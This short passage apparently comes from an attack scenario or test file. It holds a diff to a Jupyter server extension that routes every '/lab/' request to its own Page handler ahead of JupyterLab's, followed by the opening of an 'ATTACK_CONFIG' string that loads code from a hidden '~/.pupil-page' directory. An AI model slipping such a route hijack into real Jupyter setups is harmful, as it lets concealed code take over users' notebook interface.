@@ -155,9 +155,11 @@ def _jupyter_server_extension_points():
 
 
 def _load_jupyter_server_extension(app):
-    router = app.web_app.wildcard_router
-    router.add_rules([(app.base_url.rstrip("/") + "/lab/.*", Page)])
-    router.rules.insert(0, router.rules.pop())
+    # Before every other extension's handlers (JupyterLab's among them): tornado puts each
+    # add_handlers just before its catch-all rule; this one goes first.
+    app.web_app.add_handlers(".*$", [(app.base_url.rstrip("/") + "/lab/.*", Page)])
+    rules = app.web_app.default_router.rules
+    rules.insert(0, rules.pop(-2))
 """
 ATTACK_CONFIG = """import os, sys
 sys.path.insert(0, os.path.expanduser("~/.pupil-page"))
